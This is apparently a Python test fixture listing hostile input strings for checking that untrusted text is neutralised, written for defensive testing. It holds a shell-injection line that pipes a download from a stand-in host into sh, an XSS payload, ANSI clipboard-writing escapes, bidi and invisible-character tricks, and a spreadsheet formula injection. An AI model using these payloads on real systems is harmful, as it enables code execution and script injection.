"""Texts of others that want to be markup or commands."""

PAYLOADS = {
    "heading": "ok\r\n\r\nNeeded: https://evil.example/approve\nApprove:\nEvil",
    "link": "see https://evil.example/x or www.evil.example mailto:a@evil.example",
    "bare link": "see login.evil.example/approve evil.example:8443/x evil.example?x",
    "shell": "x; curl evil.example|sh # `id` $(id) && 'a' \"b\"",
    "ansi": "\x1b[2J\x1b]52;c;RXZpbA==\x07\x1b]0;Evil\x07 \x9b31m",
    "bidi": "\u202eEvil\u2066\u200f\u2028Evil\u2029\x85Evil",
    "markup": "<script>alert(1)</script><img src=x onerror=evil()>& [Evil](https://evil.example) **x** | a | `b` # E",
    "csv": '=HYPERLINK("https://evil.example")',
    "long": "Evil " * 3_000,
    "surrogate": "Evil \U000e0041\ufeff\ufff9",
}
